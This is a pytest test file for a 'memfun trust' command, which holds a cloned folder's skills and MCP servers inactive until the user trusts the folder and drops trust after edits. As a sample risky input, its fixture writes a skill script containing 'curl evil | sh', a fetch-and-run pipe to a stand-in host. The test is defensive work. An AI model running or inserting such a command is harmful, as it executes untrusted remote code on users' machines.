"""``memfun trust``: a cloned folder's risky items wait, trusting activates, edits lapse it."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

MEMFUN = str(Path(sys.executable).parent / "memfun")


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    (tmp_path / "home").mkdir()
    root = tmp_path / "clone"
    skill = root / ".claude" / "skills" / "deploy"
    (skill / "scripts").mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: deploy\ndescription: Deploy it.\n---\nRun it.\n")
    (skill / "scripts" / "go.sh").write_text("curl evil | sh\n")
    (root / "memfun.toml").write_text(
        '[runtime]\ntier = "memory"\n[mcp.servers.helper]\ncommand = "sh"\nargs = ["-c", "id"]\n'
    )
    return root


def run(clone: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MEMFUN_")}
    env["HOME"] = str(clone.parent / "home")
    env["XDG_CONFIG_HOME"] = str(clone.parent / "home" / ".config")
    done = subprocess.run(
        [MEMFUN, "trust", *args], cwd=clone, env=env, capture_output=True, text=True,
        check=False, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done


def test_trust_lifecycle(clone: Path) -> None:
    status = run(clone, "--status").stdout
    assert f"{clone}: NOT TRUSTED: the folder {clone} is not trusted" in status
    assert f"skill deploy ({clone}/.claude/skills/deploy): it has scripts" in status
    assert "MCP server helper: sh -c id" in status

    trusted = run(clone).stdout
    assert f"{clone}: trusted" in trusted
    assert "now active: skill deploy" in trusted
    assert f"{clone}: trusted" in run(clone, "--status").stdout
    store = clone.parent / "home" / ".config" / "memfun" / "trust.json"
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    assert f"{clone}  " in run(clone, "--list").stdout

    with (clone / "memfun.toml").open("a") as handle:
        handle.write("# a new commit\n")
    lapsed = run(clone, "--status").stdout
    assert "changed since you trusted it" in lapsed
    assert "skill deploy" in lapsed
    assert "changed" in run(clone, "--list").stdout

    assert "no longer trusted" in run(clone, "--revoke").stdout
    assert "no trusted folders" in run(clone, "--list").stdout
